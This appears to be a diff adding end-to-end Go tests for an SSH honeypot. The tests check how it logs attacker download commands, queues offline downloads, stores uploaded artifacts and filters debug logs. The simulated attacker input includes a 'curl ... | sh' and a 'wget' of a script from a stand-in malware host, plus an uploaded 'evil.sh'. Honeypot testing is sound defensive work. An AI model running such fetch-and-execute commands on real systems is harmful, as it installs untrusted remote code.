+	u := "http://malware.test/bot.sh"
+	sess := execDownload(t, h, "curl -s "+u+" | sh", u)
+	waitArtifact(t, dir, sess, u)
+}
+
+func TestE2EFallbackDownload(t *testing.T) {
+	h := newTestHoneypotConfig(t, func(c *Config) {
+		c.FallbackAlways = true
+	})
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+	defer c.Close()
+	s, err := c.NewSession()
+	if nil != err {
+		t.Fatalf("Unable to start session: %v", err)
+	}
+	u := "http://malware.test/bot.sh"
+	s.Run("wget -q " + u)
+	c.Close()
+
+	/* Noted the same way as when proxied */
+	sess, _ := h.Summary(t)
+	if 1 != len(sess.Downloads) || u != sess.Downloads[0].URL {
+		t.Errorf("Downloads %+v, expected %v", sess.Downloads, u)
+	}
+	b, err := ioutil.ReadFile(checkChannel(t, sess, "session").Log)
+	if nil != err {
+		t.Fatalf("Unable to read channel log: %v", err)
+	}
+	if bytes.Contains(b, []byte("Download Command")) {
+		t.Errorf("Fallback-only download line in log:\n%s", b)
+	}
+}
+
+func TestE2EDownloadOffline(t *testing.T) {
+	h := newTestHoneypotConfig(t, func(c *Config) {
+		c.Downloads = true
+		c.DownloadOffline = true
+	})
+	dir := filepath.Join(h.logDir, ARTIFACTDIR)
+	ms := newTestMalwareServer(t, "")
+	u := ms.URL + "/bot.sh"
+	sess := execDownload(t, h, "wget "+u, u)
+
+	/* The URL should be saved for later */
+	b, err := ioutil.ReadFile(filepath.Join(dir, PENDINGNAME))
+	if nil != err {
+		t.Fatalf("Unable to read pending URLs: %v", err)
+	}
+	var src ArtifactSource
+	if err := json.Unmarshal(b, &src); nil != err ||
+		u != src.URL ||
+		sess.ID != src.Session {
+		t.Fatalf("Bad pending URL %s: %v", b, err)
+	}
+
+	/* Which we can now get */
+	fetched, failed, err := fetchPending(h.logDir, "", "", true)
+	if 1 != fetched || 0 != failed || nil != err {
+		t.Fatalf(
+			"Fetched %v, %v failed, error %v",
+			fetched,
+			failed,
+			err,
+		)
+	}
+	waitArtifact(t, dir, sess, u)
+	if _, err := ioutil.ReadFile(
+		filepath.Join(dir, PENDINGNAME),
+	); !os.IsNotExist(err) {
+		t.Errorf("Pending URLs not removed: %v", err)
+	}
+}
+
+/* readArtifact waits for the metadata for the artifact with the given hash to
+be written to the store in the log directory logDir and returns it. */
+func readArtifact(t *testing.T, logDir, sha string) Artifact {
+	t.Helper()
+	fn := filepath.Join(logDir, ARTIFACTDIR, sha+ARTIFACTSUFFIX)
+	var a Artifact
+	waitFor(t, "artifact metadata", func() bool {
+		b, err := ioutil.ReadFile(fn)
+		return nil == err && nil == json.Unmarshal(b, &a)
+	})
+	return a
+}
+
+func TestE2EArtifacts(t *testing.T) {
+	h := newTestHoneypotConfig(t, func(c *Config) {
+		c.Artifacts = true
+	})
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+	defer c.Close()
+	run := func(cmd, stdin string) {
+		s, err := c.NewSession()
+		if nil != err {
+			t.Fatalf("Unable to start session: %v", err)
+		}
+		s.Stdin = strings.NewReader(stdin)
+		s.Stdout = ioutil.Discard
+		if err := s.Run(cmd); nil != err {
+			t.Fatalf("Running %q failed: %v", cmd, err)
+		}
+	}
+
+	/* A file sent with scp, the same big input twice, and a small
+	input */
+	const script = "#!/bin/sh\necho pwned\n"
+	big := strings.Repeat("A", ARTIFACTSTDINMIN)
+	run("scp -t /tmp", fmt.Sprintf("C0755 %v evil.sh\n%s\x00",
+		len(script),
+		script,
+	))
+	run(TESTCAT, big)
+	run(TESTCAT, big)
+	run(TESTCAT, "small")
+	c.Close()
+
+	sess, _ := h.Summary(t)
+	scpSHA := fmt.Sprintf("%x", sha256.Sum256([]byte(script)))
+	bigSHA := fmt.Sprintf("%x", sha256.Sum256([]byte(big)))
+	want := []string{scpSHA, bigSHA}
+	sort.Strings(want)
+	if !reflect.DeepEqual(want, sess.Artifacts) {
+		t.Errorf("Session artifacts %q", sess.Artifacts)
+	}
+	if 1 != len(sess.Files) || scpSHA != sess.Files[0].SHA256 {
+		t.Errorf("Session files %+v", sess.Files)
+	}
+
+	/* The scp'd file */
+	a := readArtifact(t, h.logDir, scpSHA)
+	if int64(len(script)) != a.Size ||
+		1 != len(a.Names) || "evil.sh" != a.Names[0] ||
+		1 != len(a.Sessions) || sess.ID != a.Sessions[0] ||
+		1 != len(a.Sources) || ARTIFACTSCP != a.Sources[0].Kind {
+		t.Errorf("Bad scp artifact metadata %+v", a)
+	}
+
+	/* The input, only stored once */
+	a = readArtifact(t, h.logDir, bigSHA)
+	if int64(len(big)) != a.Size ||
+		0 != len(a.Names) ||
+		1 != len(a.Sessions) ||
+		2 != len(a.Sources) {
+		t.Fatalf("Bad stdin artifact metadata %+v", a)
+	}
+	for _, src := range a.Sources {
+		if ARTIFACTSTDIN != src.Kind ||
+			TESTCAT != src.Command ||
+			sess.ID != src.Session {
+			t.Errorf("Bad stdin artifact source %+v", src)
+		}
+	}
+	if b, err := ioutil.ReadFile(filepath.Join(
+		h.logDir,
+		ARTIFACTDIR,
+		bigSHA,
+	)); nil != err || big != string(b) {
+		t.Errorf("Stored input incorrect (%v)", err)
+	}
+
+	/* Nothing else */
+	fns, err := filepath.Glob(filepath.Join(h.logDir, ARTIFACTDIR, "*"))
+	if nil != err || 4 != len(fns) {
+		t.Errorf("Artifact store has %q (%v)", fns, err)
+	}
+}
+
+func TestE2EPathTemplate(t *testing.T) {
+	h := newTestHoneypotConfig(t, func(c *Config) {
+		c.PathTemplate = "{date}/{session_id}"
+	})
+	c := h.Dial(t, ssh.Password(TESTPASSWORD))
+	defer c.Close()
+	s, err := c.NewSession()
+	if nil != err {
+		t.Fatalf("Unable to start session: %v", err)
+	}
+	s.Run("true")
+	c.Close()
+
+	sess, dir := h.Summary(t)
+	if want := filepath.Join(
+		h.logDir,
+		sess.Start.Local().Format("2006-01-02"),
+		sess.ID,
+	); want != dir {
+		t.Errorf("Session directory %v, want %v", dir, want)
+	}
+	if h.addr != sess.Listener {
+		t.Errorf("Session listener %q, want %q", sess.Listener, h.addr)
+	}
+}
+
+/* syncBuffer is a bytes.Buffer which may be written and read at once */
+type syncBuffer struct {
+	l sync.Mutex
+	b bytes.Buffer
+}
+
+func (b *syncBuffer) Write(p []byte) (int, error) {
+	b.l.Lock()
+	defer b.l.Unlock()
+	return b.b.Write(p)
+}
+
+func (b *syncBuffer) String() string {
+	b.l.Lock()
+	defer b.l.Unlock()
+	return b.b.String()
+}
+
+func TestE2EDebugLog(t *testing.T) {
+	for _, c := range []struct {
+		levels  string
+		want    []string
+		notWant []string
+	}{{
+		levels:  "",
+		want:    []string{"Start of log", "Channel Type:\"session\""},
+		notWant: []string{"marker"},
+	}, {
+		levels: "channel=trace,request=debug",
+		want: []string{
+			`Request Type:"exec"`,
+			`"ran: marker\n"`,
+		},
+	}, {
+		levels:  "general=error,channel=error",
+		notWant: []string{"Start of log", "marker"},
+	}} {
+		c := c
+		t.Run(c.levels, func(t *testing.T) {
+			var dbg syncBuffer
+			h := newTestHoneypotConfig(t, func(conf *Config) {
+				conf.LogLevels = c.levels
+				conf.DebugLog = &dbg
+			})
+			cl := h.Dial(t, ssh.Password(TESTPASSWORD))
+			defer cl.Close()
+			s, err := cl.NewSession()
+			if nil != err {
+				t.Fatalf("Unable to start session: %v", err)
+			}
+			s.Run("marker")
+			cl.Close()
+			sess, dir := h.Summary(t)
+
+			/* Session logs get everything, whatever the level */
+			waitLog(t, filepath.Join(dir, LOGNAME), "Start of log")
+			waitLog(
+				t,
+				checkChannel(t, sess, "session").Log,
+				`Request Type:"exec"`,
+				`"ran: marker\n"`,
+			)
+			for _, w := range c.want {
+				waitFor(t, w, func() bool {
+					return strings.Contains(dbg.String(), w)
+				})
+			}
+			for _, n := range c.notWant {
+				if strings.Contains(dbg.String(), n) {
+					t.Errorf(
+						"Debug log has %q:\n%s",
+						n,
+						dbg.String(),
+					)
+				}
+			}
+		})
+	}
+}